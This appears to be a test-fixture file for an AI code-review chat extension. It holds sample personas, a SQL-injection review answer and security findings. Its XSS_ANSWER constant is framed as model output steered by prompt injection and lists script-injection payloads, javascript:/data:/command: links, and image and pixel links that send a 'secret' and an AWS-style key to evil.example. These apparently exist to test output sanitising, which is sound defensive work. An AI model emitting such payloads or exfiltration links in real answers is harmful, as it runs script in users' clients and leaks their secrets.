import type { PersonaInfo, ToWebview, Turn } from '../../client/src/chat/protocol';

export const PERSONAS: PersonaInfo[] = [
  {
    id: 'flask-security-architect',
    name: 'Flask Security Architect',
    description: 'Enterprise Flask backends: security first, then stability, observability and performance.',
    color: 'blue',
    source: 'built-in',
  },
  {
    id: 'backend-security-expert',
    name: 'Backend Security Expert',
    description: 'Flask apps that take crypto payments: token auth, CSRF, replay, wallet safety.',
    color: 'green',
    source: 'built-in',
  },
  {
    id: 'backend-python-expert',
    name: 'Backend Python Expert',
    description: 'FastAPI, Flask, Django and SQLAlchemy: validation, parameterised queries, RBAC, tests.',
    color: 'yellow',
    source: 'built-in',
  },
  {
    id: 'backend-security-architect',
    name: 'Backend Security Architect',
    description: 'Defence in depth, threat modelling, least privilege, audit trails.',
    color: 'red',
    source: 'built-in',
  },
  {
    id: 'ws:team-reviewer',
    name: 'Team Reviewer',
    description: 'Our house rules.',
    source: 'workspace',
  },
  {
    id: 'ws:broken-agent',
    name: 'broken-agent',
    description: '',
    source: 'workspace',
    error: '.claude/agents/broken-agent.md: model must be one of sonnet, opus, haiku, inherit',
  },
];

let clock = Date.UTC(2026, 10, 22, 10, 0, 0);

export function turn(overrides: Partial<Turn> & { id: string }): Turn {
  clock += 60_000;
  return {
    personaId: 'flask-security-architect',
    personaName: 'Flask Security Architect',
    prompt: 'Is this route safe?',
    context: [],
    answer: '',
    status: 'done',
    at: clock,
    ...overrides,
  };
}

export function init(overrides: Partial<Extract<ToWebview, { type: 'init' }>> = {}): ToWebview {
  return {
    type: 'init',
    personas: PERSONAS,
    history: [],
    hasApiKey: true,
    trusted: true,
    model: 'claude-sonnet-5-5',
    ...overrides,
  };
}

export const SQL_ANSWER = [
  '## SQL injection in `search`',
  '',
  'The query is built with an f-string from `request.args`:',
  '',
  '```python',
  'cur.execute(f"SELECT * FROM users WHERE name = \'{name}\'")',
  '```',
  '',
  'Use a parameterised query instead:',
  '',
  '```python',
  'cur.execute("SELECT * FROM users WHERE name = %s", (name,))',
  '```',
  '',
  'See the [OWASP cheat sheet](https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html).',
].join('\n');

export const FINDINGS: NonNullable<Turn['findings']> = [
  {
    severity: 'high',
    title: 'SQL built from request data',
    cwe: 'CWE-89',
    line: 12,
    explanation: 'name comes from request.args and is formatted into the SQL text.',
    replacement: 'cur.execute("SELECT * FROM users WHERE name = %s", (name,))',
  },
  {
    severity: 'medium',
    title: 'Debug mode on',
    cwe: 'CWE-489',
    line: 30,
    endLine: 31,
    explanation: 'app.run(debug=True) exposes the Werkzeug debugger.',
    replacement: 'app.run(debug=False)',
  },
  {
    severity: 'info',
    title: 'Consider rate limiting the login route',
    explanation: 'Not a vulnerability by itself.',
  },
];

/** Model output an attacker could steer (through a prompt injection in the selection, say). */
export const XSS_ANSWER = [
  'Here is the review.',
  '',
  '<img src=x onerror="window.__pwned = \'img\'; alert(1)">',
  '',
  '<script>window.__pwned = "script"; alert(2)</script>',
  '',
  '<svg onload="window.__pwned = \'svg\'"><circle r=1 /></svg>',
  '',
  '<iframe src="https://evil.example/frame"></iframe>',
  '',
  '<a href="https://evil.example/raw" onclick="window.__pwned = \'raw-a\'">raw html link</a>',
  '',
  '<style>body { background: url(https://evil.example/css) }</style>',
  '',
  '<form action="https://evil.example/post"><button>go</button></form>',
  '',
  "[click me](javascript:window.__pwned='js-link')",
  '',
  '[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '',
  '[run a command](command:workbench.action.terminal.new)',
  '',
  '[vb](vbscript:msgbox(1))',
  '',
  '<javascript:alert(3)>',
  '',
  '![x](https://evil.example/?q=secret)',
  '',
  '![tracking pixel][pixel]',
  '',
  '[pixel]: https://evil.example/pixel.gif?k=AKIA1234',
  '',
  '| a | b |',
  '|:--|--:|',
  '| <b onmouseover=alert(4)>x</b> | y |',
  '',
  '[legit docs](https://flask.palletsprojects.com/en/stable/security/)',
].join('\n');
